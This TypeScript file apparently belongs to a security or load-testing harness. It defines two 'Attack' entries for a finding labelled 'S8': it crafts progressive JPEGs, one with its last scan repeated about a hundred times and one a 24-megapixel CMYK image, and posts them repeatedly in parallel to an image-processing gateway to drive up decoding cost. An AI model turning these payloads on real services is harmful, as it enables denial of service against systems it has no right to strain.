import sharp from 'sharp';
import type { Attack } from '../attack.ts';
import { persist } from '../persist.ts';
import { post } from './post.ts';

const SIZE = { width: 6000, height: 4000 };
/** As many as the gateway admits: each may go over the whole picture. */
const SCANS = 100;
const START_OF_SCAN = Buffer.from([0xff, 0xda]);
const END_OF_IMAGE = Buffer.from([0xff, 0xd9]);

function blank() {
  return sharp({ create: { ...SIZE, channels: 3, background: '#888' } });
}

/** A progressive JPEG whose last scan is said again and again: a few hundred kilobytes, a hundred passes. */
async function manyScans(): Promise<Buffer> {
  const jpeg = await blank().jpeg({ progressive: true }).toBuffer();
  const parts = jpeg.toString('latin1').split(START_OF_SCAN.toString('latin1'));
  const end = jpeg.lastIndexOf(END_OF_IMAGE);
  const lastScan = jpeg.subarray(jpeg.lastIndexOf(START_OF_SCAN), end);
  const repeats = Array.from({ length: SCANS - (parts.length - 1) }, () => lastScan);
  return Buffer.concat([jpeg.subarray(0, end), ...repeats, END_OF_IMAGE]);
}

const inkOfFourColours = () => blank().toColourspace('cmyk').jpeg({ progressive: true }).toBuffer();

function picture(name: string, make: () => Promise<Buffer>): Attack {
  return {
    name,
    finding: 'S8',
    run: async ({ funded }, signal) => {
      const input = { type: 'base64', data_base64: (await make()).toString('base64') };
      await persist(signal, { width: 8, pauseMs: 100 }, () => post(funded, { engine: 'instant', input }, signal));
    },
  };
}

export const scannedPictures = picture('pictures of a hundred scans', manyScans);
export const cmykPictures = picture('progressive CMYK pictures of 24 megapixels', inkOfFourColours);
